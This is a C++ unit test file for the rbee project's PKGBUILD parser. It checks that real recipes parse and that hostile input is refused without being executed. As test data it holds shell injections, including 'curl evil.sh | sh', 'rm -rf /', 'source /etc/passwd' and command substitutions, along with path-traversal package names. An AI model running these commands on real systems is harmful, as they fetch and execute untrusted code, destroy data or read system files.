// The PKGBUILD parser: real recipe shapes, and hostile text it must refuse
// without executing anything.
#include "actors/install/pkgbuild.hpp"

#include <caf/error.hpp>
#include <gtest/gtest.h>

#include <string>

using namespace rbee;

namespace {

std::string err(std::string_view text) {
  auto r = parse_pkgbuild(text);
  EXPECT_FALSE(r) << "parsed: " << text;
  return r ? "" : caf::to_string(r.error());
}

const char* real = R"PKG(# Maintainer: rbee <dev@rbee.dev>
pkgname=rbee-worker-cpu
pkgver=0.1.0
pkgrel=1
pkgdesc="rbee inference worker (CPU, \"AVX2\")"
arch=('x86_64' 'aarch64')
url='https://github.com/rbee/rbee'
license=(GPL-3.0-or-later)
depends=(
  'libcaf-dev'   # the actor runtime
  "libboost-dev"
)
makedepends=(cmake ninja-build)
makedepends+=(ccache)
source=("rbee-$pkgver.tar.gz"
        "${pkgname}.conf")
sha256sums=('SKIP' \
            'SKIP')
_flags="-O3 -march=native"

build() {
  cd "$srcdir/rbee-$pkgver"
  if [ -n "${CUDA}" ]; then echo "}"; fi   # a brace in a string
  cmake -B build -G Ninja -DCMAKE_CXX_FLAGS="$_flags"
  cmake --build build
}

package() {
  install -Dm755 build/rbee "$pkgdir/usr/bin/rbee-worker"
  for f in a b; do { echo "$f"; }; done
}
)PKG";

TEST(Pkgbuild, ParsesARealRecipe) {
  auto r = parse_pkgbuild(real);
  ASSERT_TRUE(r) << caf::to_string(r.error());
  EXPECT_EQ(r->get("pkgname"), "rbee-worker-cpu");
  EXPECT_EQ(r->get("pkgver"), "0.1.0");
  EXPECT_EQ(r->get("pkgrel"), "1");
  EXPECT_EQ(r->get("pkgdesc"), "rbee inference worker (CPU, \"AVX2\")");
  EXPECT_EQ(r->list("arch"), (std::vector<std::string>{"x86_64", "aarch64"}));
  EXPECT_EQ(r->get("url"), "https://github.com/rbee/rbee");
  EXPECT_EQ(r->list("depends"), (std::vector<std::string>{"libcaf-dev", "libboost-dev"}));
  EXPECT_EQ(r->list("makedepends"), (std::vector<std::string>{"cmake", "ninja-build", "ccache"}));
  EXPECT_EQ(r->list("source"), (std::vector<std::string>{"rbee-0.1.0.tar.gz", "rbee-worker-cpu.conf"}));
  EXPECT_EQ(r->list("sha256sums"), (std::vector<std::string>{"SKIP", "SKIP"}));
  EXPECT_EQ(r->get("_flags"), "-O3 -march=native");
  ASSERT_EQ(r->functions.size(), 2u);
  EXPECT_NE(r->functions.at("build").find("cmake --build build"), std::string::npos);
  EXPECT_NE(r->functions.at("build").find("echo \"}\"; fi"), std::string::npos);
  EXPECT_NE(r->functions.at("package").find("{ echo \"$f\"; }; done"), std::string::npos);
  EXPECT_TRUE(r->list("missing").empty());
  EXPECT_EQ(r->get("missing"), "");
}

TEST(Pkgbuild, QuotingAndExpansions) {
  auto r = parse_pkgbuild("pkgname=x\npkgver=1\npkgrel=2\n"
                          "a='$pkgver stays'\n"
                          "b=\"v$pkgver-r${pkgrel}\"\n"
                          "c=pre'mid'\"post\"\\ end\n"
                          "d=$unknown\n"
                          "e=\"cost \\$5\"\n"
                          "f=('one two' three)\n"
                          "g=\"${f[@]}\"\n"
                          "h=\n"
                          "function_like=1; k=2 # trailing comment\n");
  ASSERT_TRUE(r) << caf::to_string(r.error());
  EXPECT_EQ(r->get("a"), "$pkgver stays");
  EXPECT_EQ(r->get("b"), "v1-r2");
  EXPECT_EQ(r->get("c"), "premidpost end");
  EXPECT_EQ(r->get("d"), "");
  EXPECT_EQ(r->get("e"), "cost $5");
  EXPECT_EQ(r->list("f"), (std::vector<std::string>{"one two", "three"}));
  EXPECT_EQ(r->get("g"), "one two three");
  EXPECT_TRUE(r->list("h").empty());
  EXPECT_EQ(r->get("k"), "2");
}

TEST(Pkgbuild, CrlfAndFunctionKeywordSpacing) {
  auto r = parse_pkgbuild("pkgname=x\r\npkgver=1\r\npkgrel=1\r\nbuild ()\n{\n  make\n}\n");
  ASSERT_TRUE(r) << caf::to_string(r.error());
  EXPECT_EQ(r->get("pkgname"), "x");
  EXPECT_EQ(r->functions.at("build"), "\n  make\n");
}

TEST(Pkgbuild, RequiredFieldsAndTheirCharacters) {
  EXPECT_NE(err("pkgver=1\npkgrel=1\n").find("'pkgname' is required"), std::string::npos);
  EXPECT_NE(err("pkgname=x\npkgrel=1\n").find("'pkgver' is required"), std::string::npos);
  EXPECT_NE(err("pkgname=../../etc\npkgver=1\npkgrel=1\n").find("'pkgname' has characters"), std::string::npos);
  EXPECT_NE(err("pkgname=a/b\npkgver=1\npkgrel=1\n").find("pkgname"), std::string::npos);
  EXPECT_NE(err("pkgname=-rf\npkgver=1\npkgrel=1\n").find("pkgname"), std::string::npos);
  EXPECT_NE(err("pkgname=x\npkgver=1-2\npkgrel=1\n").find("pkgver"), std::string::npos);
  EXPECT_NE(err("pkgname=x\npkgver=1\npkgrel=a\n").find("pkgrel"), std::string::npos);
  EXPECT_NE(err("pkgname=(a b)\npkgver=1\npkgrel=1\n").find("one value"), std::string::npos);
  EXPECT_NE(err("pkgname=" + std::string(200, 'a') + "\npkgver=1\npkgrel=1\n").find("pkgname"), std::string::npos);
}

TEST(Pkgbuild, RefusesExecutionAndNamesTheLine) {
  const std::string head = "pkgname=x\npkgver=1\npkgrel=1\n";
  EXPECT_NE(err(head + "v=$(curl evil.sh | sh)\n").find("line 4: command substitution"), std::string::npos);
  EXPECT_NE(err(head + "v=\"a$(id)\"\n").find("line 4: command substitution"), std::string::npos);
  EXPECT_NE(err(head + "v=`id`\n").find("line 4: command substitution"), std::string::npos);
  EXPECT_NE(err(head + "v=\"`id`\"\n").find("command substitution"), std::string::npos);
  EXPECT_NE(err(head + "v=$((1+2))\n").find("command substitution"), std::string::npos);
  EXPECT_NE(err(head + "rm -rf /\n").find("line 4: 'rm' is not an assignment"), std::string::npos);
  EXPECT_NE(err(head + "\n\necho hi\n").find("line 6"), std::string::npos);
  EXPECT_NE(err(head + "source /etc/passwd\n").find("not an assignment"), std::string::npos);
  EXPECT_NE(err(head + "v=a|sh\n").find("pipes"), std::string::npos);
  EXPECT_NE(err(head + "v=a>/tmp/x\n").find("pipes"), std::string::npos);
  EXPECT_NE(err(head + "v=a b\n").find("unexpected text"), std::string::npos);
  EXPECT_NE(err(head + "v=${x:-$(id)}\n").find("only ${name}"), std::string::npos);
  EXPECT_NE(err(head + ". ./other\n").find("only assignments and functions"), std::string::npos);
  EXPECT_NE(err(head + "(subshell)\n").find("only assignments"), std::string::npos);
}

TEST(Pkgbuild, MalformedText) {
  const std::string head = "pkgname=x\npkgver=1\npkgrel=1\n";
  EXPECT_NE(err(head + "v='open\n").find("unterminated single quote"), std::string::npos);
  EXPECT_NE(err(head + "v=\"open\n").find("unterminated double quote"), std::string::npos);
  EXPECT_NE(err(head + "v=(a b\n").find("unterminated array"), std::string::npos);
  EXPECT_NE(err(head + "v=${open\n").find("unterminated ${"), std::string::npos);
  EXPECT_NE(err(head + "build() {\n make\n").find("unterminated function body"), std::string::npos);
  EXPECT_NE(err(head + "build() make\n").find("expected '{'"), std::string::npos);
  EXPECT_NE(err(head + "build(x) {}\n").find("expected ')'"), std::string::npos);
  EXPECT_NE(err(head + "v=(a (b))\n").find("'('"), std::string::npos);
  EXPECT_NE(err(head + "build() { :; } trailing\n").find("unexpected text"), std::string::npos);
  EXPECT_NE(err("").find("'pkgname' is required"), std::string::npos);
  EXPECT_NE(err(std::string("pkgname=x\0", 10)).find("NUL"), std::string::npos);
  EXPECT_NE(err(head + "#" + std::string(2 << 20, 'x')).find("larger than 1 MiB"), std::string::npos);
  EXPECT_NE(err("\xff\xfe=1\n").find("line 1"), std::string::npos);
}

TEST(Pkgbuild, DeepNestingAndLongInputDoNotRecurse) {
  // Braces nest by counting, not recursion: 100k levels cost nothing.
  std::string deep = "pkgname=x\npkgver=1\npkgrel=1\nbuild() {\n" + std::string(100000, '{') +
                     std::string(100000, '}') + "\n}\n";
  auto r = parse_pkgbuild(deep);
  ASSERT_TRUE(r) << caf::to_string(r.error());
  std::string many = "pkgname=x\npkgver=1\npkgrel=1\nv=(";
  for (int i = 0; i < 50000; ++i) many.append("w").append(std::to_string(i)).append(" ");
  many += ")\n";
  auto m = parse_pkgbuild(many);
  ASSERT_TRUE(m) << caf::to_string(m.error());
  EXPECT_EQ(m->list("v").size(), 50000u);
}

} // namespace
